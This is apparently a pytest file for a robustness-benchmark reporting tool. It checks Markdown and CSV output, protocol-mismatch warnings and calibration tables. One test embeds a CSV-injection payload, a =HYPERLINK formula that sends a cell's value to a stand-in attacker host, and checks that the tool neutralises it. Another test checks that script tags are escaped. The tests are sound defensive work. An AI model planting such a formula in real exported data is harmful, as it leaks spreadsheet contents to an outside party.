"""Markdown and long-format CSV reports."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from corruptbench.cli import main
from results.support import EVIL


def test_markdown(three: list[Path], tmp_path: Path) -> None:
    out = tmp_path / "r.md"
    assert main(["report", *map(str, three), "--out", str(out)]) == 0
    md = out.read_text(encoding="utf-8")
    assert md.startswith("## Robustness summary")
    assert "| Model | Clean error | mCE |" in md
    assert "<script>" not in md and "&lt;script&gt;" in md
    lines = [ln for ln in md.splitlines() if ln.startswith("| ")]
    assert all(ln.count("|") == lines[0].count("|") for ln in lines[:4])  # header + 3 models


def test_csv(three: list[Path], tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    assert main(["report", *map(str, three), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert set(rows[0]) == {"model", "file", "metric", "name", "severity", "value"}
    errs = [r for r in rows if r["model"] == "alexnet" and r["metric"] == "error"]
    assert len(errs) == 19 * 5
    fog3 = next(r for r in errs if r["name"] == "fog" and r["severity"] == "3")
    data = json.loads(three[1].read_text())
    assert float(fog3["value"]) == pytest.approx(data["errors"]["fog"][2])
    assert any(r["metric"] == "flip_probability" and r["model"] == EVIL for r in rows)


def test_reports_name_the_protocol_and_warn_when_protocols_differ(tmp_path: Path) -> None:
    from results.support import make_results, write

    full = make_results("full-model", 0.8, 0.25, seed=1)
    rb = make_results("rb-model", 0.8, 0.25, seed=1)
    rb["dataset"]["protocol"] = "robustbench"
    paths = [write(tmp_path, "full.json", full), write(tmp_path, "rb.json", rb)]
    warned: list[str] = []
    from corruptbench.report import build_report

    build_report(paths, tmp_path / "r.md", on_warning=warned.append)
    expected = (
        "the ImageNet-C results follow 2 different protocols, so their numbers are not "
        "comparable: 'full-model': protocol full; 'rb-model': protocol robustbench"
    )
    assert expected in warned
    md = (tmp_path / "r.md").read_text(encoding="utf-8")
    assert f"> **Warning:** {expected}" in md and "Protocol: full, robustbench." in md
    clean_acc = f"{100 * (1 - 0.25):.2f}%"
    row = next(ln for ln in md.splitlines() if ln.startswith("| rb-model | robustbench |"))
    assert row.split(" | ")[2] == clean_acc
    assert "| Model | Protocol | Clean accuracy (RobustBench clean_acc) |" in md
    assert "| full-model | full |" not in md  # the full protocol has no leaderboard figures
    build_report(paths, tmp_path / "r.csv", on_warning=warned.append)
    rows = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8")))
    acc = {(r["model"], r["metric"], r["name"]): r["value"] for r in rows if "_acc" in r["metric"]}
    assert set(acc) == {
        ("rb-model", "clean_acc", "robustbench"),
        ("rb-model", "corruptions_acc", "robustbench"),
    }
    assert float(acc[("rb-model", "clean_acc", "robustbench")]) == pytest.approx(0.75)
    # the same protocol twice, or a file written before protocols (full): no protocol warning
    del full["dataset"]["protocol"]
    same = [
        write(tmp_path, "old.json", full),
        write(tmp_path, "full2.json", make_results("b", 1, 0.3)),
    ]
    warned.clear()
    build_report(same, tmp_path / "s.md", on_warning=warned.append)
    assert not any("protocols" in w for w in warned)


def test_calibration_in_markdown_and_csv(tmp_path: Path) -> None:
    from corruptbench.results import Results
    from results.support import make_calibrated, write

    path = write(tmp_path, "cal.json", make_calibrated("cal"))
    cal = Results.from_json(path).calibration
    assert cal is not None and cal.clean is not None
    md_out, csv_out = tmp_path / "r.md", tmp_path / "r.csv"
    assert main(["report", str(path), "--out", str(md_out)]) == 0
    md = md_out.read_text(encoding="utf-8")
    assert "### Calibration: cal" in md
    assert "|  | corruptions | NLL | Brier | ECE (15 bins) | top-1 error |" in md
    clean = cal.clean
    assert (
        f"| clean | — | {clean['nll']:.3f} | {clean['brier']:.3f} | {100 * clean['ece']:.1f}% |"
        in md
    )
    fog = [cal.cell("fog", s) for s in range(1, 6)]
    section = md[md.index("### Calibration: cal") :]
    row = next(ln for ln in section.splitlines() if ln.startswith("| Fog |"))
    assert row.split(" | ")[1:6] == ["—" if c is None else f"{100 * c['ece']:.1f}%" for c in fog]
    assert main(["report", str(path), "--format", "csv", "--out", str(csv_out)]) == 0
    rows = list(csv.DictReader(csv_out.open(encoding="utf-8")))
    get = {(r["metric"], r["name"], r["severity"]): r["value"] for r in rows}
    assert float(get[("ece_bins", "", "")]) == 15
    assert float(get[("ece", "clean", "0")]) == clean["ece"]
    assert float(get[("nll", "fog", "3")]) == cal.cell("fog", 3)["nll"]  # type: ignore[index]
    means = cal.severity_means("all")
    assert float(get[("ece_severity_mean", "all", "5")]) == means["ece"][4]
    assert float(get[("corruptions_measured", "benchmark", "5")]) == 2
    assert get[("brier_severity_mean", "all", "2")] == ""  # not measured


def test_cbar_calibration_shows_every_cell(tmp_path: Path) -> None:
    """Issue 33 item 7: the C-bar per-corruption calibration table printed only its header
    although the file held all 50 cells (the views listed ImageNet-C's 19 names only)."""
    from corruptbench.report import render_report
    from corruptbench.results import Results
    from corruptbench.results.format import pretty
    from results.support import make_cbar_calibrated

    res = Results.from_dict(make_cbar_calibrated(), "cbar-cal.json")
    cal, cb = res.calibration, res.cbar
    assert cal is not None and cb is not None and len(cal.stats) == 51  # clean + 50 cells
    md = render_report([res], "md")
    section = md[md.index("| Corruption | ECE 1 |") :].splitlines()
    html = render_report([res], contact_sheet=False)
    cells = html[html.index('id="calibration"') :]
    for name in cb.errors:
        row = next(ln for ln in section if ln.startswith(f"| {pretty(name)} |"))
        ece = [f"{100 * cal.cell(name, s)['ece']:.1f}%" for s in range(1, 6)]  # type: ignore[index]
        assert row.split(" | ")[1:6] == ece
        assert f"<tr><td>{pretty(name)}</td>" in cells
    assert len([ln for ln in section if ln.startswith("| ") and "%" in ln]) == 10


def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
    """A model id like =HYPERLINK(...) was written raw: a spreadsheet would run it (CSV injection,
    OWASP). It is written as text, with a leading quote; the numbers stay numbers."""
    from results.support import make_results, write

    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    path = write(tmp_path, "h.json", make_results(evil, 0.8, 0.2, seed=4))
    out = tmp_path / "r.csv"
    assert main(["report", str(path), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {r["model"] for r in rows} == {"'" + evil}
    assert all(not r[k].startswith(("=", "+", "@")) for r in rows for k in r)
    assert all(float(r["value"]) >= 0 for r in rows if r["value"])


def test_cbar_in_markdown_and_csv(tmp_path: Path) -> None:
    """C-bar results: a comparison (benchmark, clean, mean, per-corruption means) and each
    result's errors per level in Markdown; one number per row in the CSV."""
    from corruptbench.results import Results
    from results.support import make_cbar, write

    path = write(tmp_path, "c.json", make_cbar("m", n=2, benchmark="cifar10_c_bar"))
    res = Results.from_json(path)
    cb = res.cbar
    assert cb is not None
    out = tmp_path / "r.md"
    assert main(["report", str(path), "--out", str(out)]) == 0
    md = out.read_text(encoding="utf-8")
    assert "### ImageNet-C-bar / CIFAR-10-C-bar (top-1 error)" in md
    assert "### CIFAR-10-C-bar by level: m" in md
    assert f"| m | CIFAR-10-C-bar | 25.0% | {100 * cb.mean_error:.1f}% (partial: 2/10) |" in md  # type: ignore[operator]
    assert "| Brownish noise | 2.5 4 5.5 6.5 7 |" in md  # cifar10_c_bar.csv's levels
    out = tmp_path / "r.csv"
    assert main(["report", str(path), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    by = {(r["metric"], r["name"], r["severity"]): float(r["value"]) for r in rows if r["value"]}
    name = next(iter(cb.errors))
    assert by["cbar_error", name, "3"] == pytest.approx(cb.errors[name][2])  # type: ignore[arg-type]
    assert by["cbar_level", name, "3"] == cb.levels[name][2]
    assert by["cbar_mean_error", "cifar10_c_bar", ""] == pytest.approx(cb.mean_error)
    assert by["clean_error", "", ""] == 0.25
    assert ("cbar_extra_mean_error", "cifar10_c_bar", "") not in by  # none outside the ten
